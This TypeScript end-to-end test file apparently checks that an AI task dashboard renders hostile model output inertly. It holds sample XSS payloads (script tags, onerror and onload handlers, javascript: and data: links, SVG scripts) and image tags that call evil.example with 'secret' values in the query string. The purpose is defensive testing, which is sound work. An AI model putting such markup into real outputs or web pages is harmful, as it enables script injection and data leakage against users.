import { say, text, writeFile } from '../harness/scripted-engine.ts';
import { expect, test } from './fixtures.ts';
import { conversationOf, seeEnd, sendNewTask } from './operator.ts';

const INPUT = '<img src=x onerror="window.broken = true"> in the input';

const ANSWER = `<script>window.broken = true</script>

<img src="https://evil.example/pixel.png?secret=1" onerror="window.broken = true"> <b onclick="window.broken = true">bold</b>

[run me](javascript:window.broken=true) [data](data:text/html,<script>window.broken=true</script>) [out](https://evil.example/out) [scheme](//evil.example/x)

![pixel](https://evil.example/pixel.png?secret=2) ![ref][pixel]

[pixel]: https://evil.example/pixel.png?secret=3

<iframe src="https://evil.example"></iframe><style>body { display: none }</style>

| <script>window.broken = true</script> | b |
|---|---|
| <svg onload="window.broken = true"> | [x](javascript:window.broken=true) |

event: done
data: [DONE]
`;

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="parent.broken = true">
  <script>parent.broken = true</script>
  <image href="https://evil.example/pixel.png?secret=4" width="5" height="5"/>
  <rect width="10" height="10" fill="green"/>
</svg>`;

declare global {
  interface Window {
    broken?: true;
  }
}

test('hostile output is shown, but runs nothing and requests nothing from elsewhere', async ({ page, engine }) => {
  engine.on(
    INPUT,
    say(
      { type: 'source-url', sourceId: '1', url: 'javascript:window.broken=true', title: '<b>source</b>' },
      { type: 'source-url', sourceId: '2', url: 'https://evil.example/source', title: 'Elsewhere' },
      {
        type: 'tool-input-available',
        toolCallId: 't',
        toolName: '<b>tool</b>',
        input: { '<b>key</b>': '<i>value</i>' },
      },
      { type: 'tool-output-available', toolCallId: 't', output: '<script>window.broken = true</script>' },
      { type: 'file', url: 'javascript:window.broken=true', mediaType: 'image/svg+xml' },
      { type: 'file', url: 'https://evil.example/pixel.png?secret=5', mediaType: 'image/png' },
    ),
    text(`${ANSWER}\n\nSee [1] and [2].`),
    writeFile('chart.svg', 'image/svg+xml', SVG),
    writeFile('page.html', 'text/html', '<script>document.title = "broken"</script>'),
  );
  const taskId = await sendNewTask(page, INPUT);
  await seeEnd(page, 0, 'completed');
  const conversation = conversationOf(page);
  await conversation.focus();
  await page.keyboard.press('Home');
  await expect(conversation).toContainText('<img src=x onerror="window.broken = true"> in the input');
  await expect(conversation).toContainText('<script>window.broken = true</script>');
  await expect(conversation).toContainText('<iframe src="https://evil.example"></iframe>');
  await expect(conversation).toContainText('Image: pixel (evil.example)');
  await conversation.getByRole('button', { name: /tool/ }).last().click();

  const found = await conversation.evaluate((root) => ({
    elements: root.querySelectorAll('script, iframe, style, svg[onload], object, embed, [onclick], [onerror]').length,
    links: [...root.querySelectorAll('a')].map((link) => link.href).filter((href) => !/^https?:/.test(href)),
    elsewhere: [...root.querySelectorAll<HTMLAnchorElement>('a[href*="evil.example"]')].map(({ rel }) => rel),
    pictures: [...root.querySelectorAll('img')].map((picture) => picture.src),
  }));
  expect(found.elements).toBe(0);
  expect(found.links).toEqual([]);
  expect(found.elsewhere.length).toBeGreaterThan(0);
  for (const rel of found.elsewhere) expect(rel).toContain('noreferrer');
  expect(found.pictures).toEqual([]);
  // Pictures load near the viewport.
  await page.keyboard.press('End');
  await expect(conversation.getByText('Preview unavailable.')).toHaveCount(1);

  for (const path of [`/tasks/${taskId}/turns`, '/tasks']) {
    await page.goto(path);
    await expect(page.getByText(INPUT).first()).toBeVisible();
  }
  expect(await page.evaluate(() => window.broken)).toBeUndefined();
});

test("a worker's HTML or SVG opened by itself is downloaded", async ({ page, engine, dashboard }) => {
  engine.on(
    INPUT,
    writeFile('page.html', 'text/html', '<script>1</script>'),
    writeFile('chart.svg', 'image/svg+xml', SVG),
  );
  const taskId = await sendNewTask(page, INPUT);
  await seeEnd(page, 0, 'completed');
  const { files = [] } = await dashboard.client.readLastTurn(taskId);
  expect(files.map(({ filename }) => filename)).toEqual(['page.html', 'chart.svg']);
  for (const { url } of files) {
    const answer = await page.request.get(`${dashboard.url}${new URL(url).pathname}`);
    expect(answer.headers()).toMatchObject({
      'x-content-type-options': 'nosniff',
      'content-disposition': expect.stringMatching(/^attachment/),
      'content-security-policy': expect.stringMatching(/^sandbox/),
    });
  }
});
